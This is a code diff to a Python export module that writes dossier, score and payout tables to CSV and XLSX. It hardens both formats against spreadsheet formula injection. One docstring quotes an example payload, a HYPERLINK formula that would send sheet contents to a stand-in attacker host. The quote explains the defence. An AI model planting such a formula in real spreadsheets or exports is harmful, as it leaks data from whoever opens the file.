@@ -19,6 +19,7 @@ from flask import current_app
 from flask_babel import gettext as _
 from openpyxl import Workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.cell.cell import Cell as SheetCell
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 from sepaxml import SepaTransfer
@@ -41,7 +42,7 @@ class Cents:
     value: int
 
 
-# A cell: text (escaped), a whole number, an amount, a decimal (a mean score) or nothing.
+# A cell: text (escaped in CSV, a text cell in XLSX), a whole number, an amount, a decimal (a mean score) or nothing.
 Cell = str | int | Cents | Decimal | None
 Table = tuple[list[str], list[list[Cell]]]
 
@@ -52,12 +53,13 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def neutralise(text: str) -> str:
-    """Text as a spreadsheet shows it, never as a formula it runs.
+    """CSV text as a spreadsheet shows it, never as a formula it runs.
 
-    Excel and LibreOffice read a cell that starts with `=`, `+`, `-` or `@` (also after a tab or a
-    carriage return) as a formula: a government name or a reviewer's comment such as
+    Excel and LibreOffice read a CSV field that starts with `=`, `+`, `-` or `@` (also after a tab
+    or a carriage return) as a formula: a government name or a reviewer's comment such as
     `=HYPERLINK("https://evil.example?"&A1)` would run on the officer's machine and could leak the
-    sheet (CSV/formula injection, OWASP). A leading apostrophe makes the cell plain text.
+    sheet (CSV/formula injection, OWASP). A leading apostrophe makes the field plain text. Not for
+    XLSX: there a cell's type says it is text, and an apostrophe would only change what was typed.
     """
     return "'" + text if text.startswith(FORMULA_STARTS) else text
 
@@ -213,7 +215,11 @@ def _payout_row(p: Payout) -> list[Cell]:
     ]  # fmt: skip
 
 
-DATASETS: dict[str, Callable[[], Table]] = {"dossiers": dossiers_table, "scores": scores_table, "payouts": payouts_table}
+DATASETS: dict[str, Callable[[], Table]] = {
+    "dossiers": dossiers_table,
+    "scores": scores_table,
+    "payouts": payouts_table,
+}
 
 
 # --- the formats -------------------------------------------------------------------------------
@@ -245,6 +251,18 @@ AMOUNT_FORMAT = "#,##0.00"
 MAX_WIDTH = 60
 
 
+def _write_text(cell: SheetCell, text: str) -> None:
+    """Text exactly as typed (`+32 475 12 34 56` stays that), stored as a text cell that no
+    spreadsheet runs."""
+    # openpyxl refuses control characters XML cannot hold; typed text may contain them.
+    cell.value = ILLEGAL_CHARACTERS_RE.sub("", text)
+    # openpyxl takes a str starting with "=" for a formula unless the type is set after the value.
+    cell.data_type = "s"
+    if text.startswith(FORMULA_STARTS):
+        # Excel's own mark for text typed after an apostrophe: editing the cell keeps it text.
+        cell.quotePrefix = True
+
+
 def to_xlsx(table: Table, title: str) -> bytes:
     """One sheet with a bold, frozen header row; amounts as numbers, text always stored as text."""
     headers, rows = table
@@ -254,7 +272,8 @@ def to_xlsx(table: Table, title: str) -> bytes:
     sheet.title = title[:31]  # Excel's limit for a sheet name
     widths = [len(h) for h in headers]
     for column, header in enumerate(headers, start=1):
-        cell = sheet.cell(row=1, column=column, value=neutralise(header))
+        cell = sheet.cell(row=1, column=column)
+        _write_text(cell, header)
         cell.font = Font(bold=True)
     for row_number, row in enumerate(rows, start=2):
         for column, value in enumerate(row, start=1):
@@ -268,9 +287,7 @@ def to_xlsx(table: Table, title: str) -> bytes:
                 cell.number_format = "0.00"
                 shown = str(value)
             elif isinstance(value, str):
-                # openpyxl refuses control characters XML cannot hold; typed text may contain them.
-                cell.value = neutralise(ILLEGAL_CHARACTERS_RE.sub("", value))
-                cell.data_type = "s"  # never a formula, whatever openpyxl would guess
+                _write_text(cell, value)
                 shown = value
             else:
                 cell.value = value
